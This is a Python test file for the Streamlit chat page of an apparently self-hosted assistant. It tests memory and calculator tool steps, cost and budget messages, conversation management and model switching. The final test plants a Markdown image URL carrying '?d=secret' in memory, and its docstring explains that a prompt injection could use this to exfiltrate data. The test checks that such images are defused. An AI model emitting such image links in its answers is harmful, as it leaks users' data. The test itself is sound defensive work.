"""The chat page with the offline model: ask, watch the tool step and the cost line, manage
conversations."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from jarvis.identity import Principal
from jarvis.ui.services import get_services


def open_chat(new_app, email: str = "chat@example.com") -> tuple[AppTest, Principal]:  # type: ignore[no-untyped-def]
    principal = get_services().accounts.register(email, "correct horse battery", "Chatty")
    at = new_app()
    at.session_state["jarvis_principal"] = principal
    at.switch_page("app_pages/chat.py")
    at = at.run()
    assert not at.exception, at.exception
    return at, principal


def test_remember_something_with_the_offline_model(app_settings, new_app) -> None:  # type: ignore[no-untyped-def]
    at, principal = open_chat(new_app)
    assert any(t.value == "Chat" for t in at.title)
    provider = at.selectbox(key="chat_provider_new")
    assert provider.value == "offline"
    assert "deterministic" in provider.format_func(provider.value) or "deterministic" in str(
        provider.options
    )

    at.chat_input(key="chat_input").set_value("remember that my cat is called Tom").run()
    assert not at.exception, at.exception

    labels = [e.label for e in at.expander]
    assert any(label.startswith("memory_store · ok") for label in labels), labels
    captions = [c.value for c in at.caption]
    assert any("tokens · $0.0000" in c for c in captions), captions
    assert any("Tom" in m.value for m in at.markdown)
    # the conversation is listed, titled from the first message, and the memory exists
    assert any(b.label == "remember that my cat is called Tom" for b in at.button)
    services = get_services()
    [conv] = services.conversations.list(principal)
    assert conv.title == "remember that my cat is called Tom"
    hits = services.memory.search(principal, "cat", k=3)
    assert any("Tom" in h.content for h in hits)


def test_rename_and_delete_a_conversation(app_settings, new_app) -> None:  # type: ignore[no-untyped-def]
    at, principal = open_chat(new_app)
    at.chat_input(key="chat_input").set_value("what is 2 * (3 + 4)").run()
    assert not at.exception, at.exception
    assert any(e.label.startswith("calculator · ok") for e in at.expander)
    [conv] = get_services().conversations.list(principal)

    # each conversation in the sidebar has its own menu
    at.text_input(key=f"chat_title_{conv.id}").input("Arithmetic")
    at.button(key=f"chat_rename_{conv.id}").click().run()
    assert not at.exception
    assert at.button(key=f"chat_open_{conv.id}").label == "Arithmetic"
    assert any(b.label == "Arithmetic" for b in at.sidebar.button)

    assert at.button(key=f"chat_delete_{conv.id}").disabled  # not before it is confirmed
    at.checkbox(key=f"chat_confirm_{conv.id}").check().run()
    at.button(key=f"chat_delete_{conv.id}").click().run()
    assert not at.exception
    assert get_services().conversations.list(principal) == []
    assert any("No conversations yet." in c.value for c in at.caption)


def test_guard_refusals_are_shown_kindly(app_settings, new_app) -> None:  # type: ignore[no-untyped-def]
    at, principal = open_chat(new_app)
    admin = principal  # the first account is the admin
    get_services().usage.set_user_budget(admin, principal.user_id, 0)
    at.chat_input(key="chat_input").set_value("hello").run()
    assert not at.exception
    assert any("monthly budget" in e.value for e in at.error)


def test_the_budget_warning_shows_after_the_answer(app_settings, new_app) -> None:  # type: ignore[no-untyped-def]
    from jarvis.llm.base import FakeProvider, ScriptedReply, Usage

    at, principal = open_chat(new_app)
    services = get_services()
    services.usage.set_user_budget(principal, principal.user_id, "1.00")
    conv = services.conversations.create(principal, provider="openai", model="gpt-4o")
    # spend $0.85 of $1.00 through a fake provider (no network) on the same database
    from tests.integration.chat_helpers import make_chat

    spender = make_chat(
        services, FakeProvider(lambda m, t: ScriptedReply(text="ok", usage=Usage(340_000)))
    )
    list(spender.runs.run(principal, conv.id, "spend"))
    spender.shutdown()
    offline = services.conversations.create(
        principal, provider="offline", model="offline-deterministic"
    )
    at.query_params["c"] = str(offline.id)  # the conversation is in the URL
    at.chat_input(key="chat_input").set_value("what time is it").run()
    assert not at.exception, at.exception
    assert any("85%" in w.value and "monthly budget" in w.value for w in at.warning)
    assert any(e.label.startswith("current_time · ok") for e in at.expander)


def test_the_picker_switches_the_conversation_model_only_when_the_user_picks(
    app_settings, new_app
) -> None:  # type: ignore[no-untyped-def]
    at, principal = open_chat(new_app)
    services = get_services()
    stale = services.conversations.create(principal, provider="anthropic", model="claude-haiku-4-5")
    at.query_params["c"] = str(stale.id)
    at = at.run()
    assert not at.exception
    assert any("no key" in w.value for w in at.warning)
    assert services.conversations.get(principal, stale.id).provider == "anthropic"  # untouched

    services.secrets.create(principal, "openai", "default", "sk-test-" + "b" * 40)
    conv = services.conversations.create(
        principal, provider="offline", model="offline-deterministic"
    )
    at.query_params["c"] = str(conv.id)
    at = at.run()
    at.selectbox(key=f"chat_provider_{conv.id}").select("openai").run()
    assert not at.exception, at.exception
    switched = services.conversations.get(principal, conv.id)
    assert (switched.provider, switched.model) == ("openai", "gpt-4o-mini")


def test_images_in_answers_are_not_loaded(app_settings, new_app) -> None:  # type: ignore[no-untyped-def]
    """A Markdown image in an answer (here echoed back from a memory, as a prompt injection
    could) would be fetched by the browser with no click: it is shown as a link instead."""
    at, _ = open_chat(new_app, "chat.images@example.com")
    leak = "![logo](http://127.0.0.1:9/leak.png?d=secret)"
    at.chat_input(key="chat_input").set_value(f"remember that my logo is {leak}").run()
    assert not at.exception, at.exception
    at.chat_input(key="chat_input").set_value("what do you know about my logo").run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown if "leak.png" in m.value]
    assert shown, [m.value for m in at.markdown]
    assert all("!\u200b[logo](" in v and "![" not in v for v in shown), shown
    titles = [b.label for b in at.button if "leak.png" in b.label]  # titled from the message
    assert titles and all("![" not in t for t in titles), titles
